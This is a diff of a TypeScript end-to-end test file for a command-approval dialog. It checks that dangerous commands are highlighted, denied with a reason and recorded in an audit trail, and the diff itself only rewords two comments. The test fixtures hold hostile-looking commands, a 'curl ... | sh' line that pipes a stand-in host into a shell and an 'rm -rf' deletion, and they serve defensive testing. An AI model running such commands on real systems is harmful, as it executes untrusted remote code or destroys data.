@@ -4,7 +4,7 @@ import { findDialog, startCall } from '../support/calls.ts';
 import type { Scenario } from '../support/scenario.ts';
 import { inspect } from './accessibility.ts';
 
-/** What a person says no to, and where that is found again. */
+/** Calls that a person refuses, and how they are shown later. */
 export const approvalScenarios: readonly Scenario[] = [
   {
     name: 'a dangerous command is marked, denied with a reason, and found in the trail, which opens it',
@@ -48,7 +48,7 @@ export const approvalScenarios: readonly Scenario[] = [
       const command = dialog.getByRole('textbox', { exact: true, name: 'Command' });
       await command.press('Home');
       await command.pressSequentially('ls 😀; ');
-      // The mark moves with the text at once, and stays when the host has judged it.
+      // The mark follows the text immediately, and stays when the host has judged it.
       await dialog.locator('mark', { hasText: /^curl https:\/\/x\.example \| sh$/ }).waitFor();
       await command.fill('mkdir a && rm -rf "日本"');
       await dialog.locator('mark', { hasText: 'rm -rf "日本"' }).waitFor();
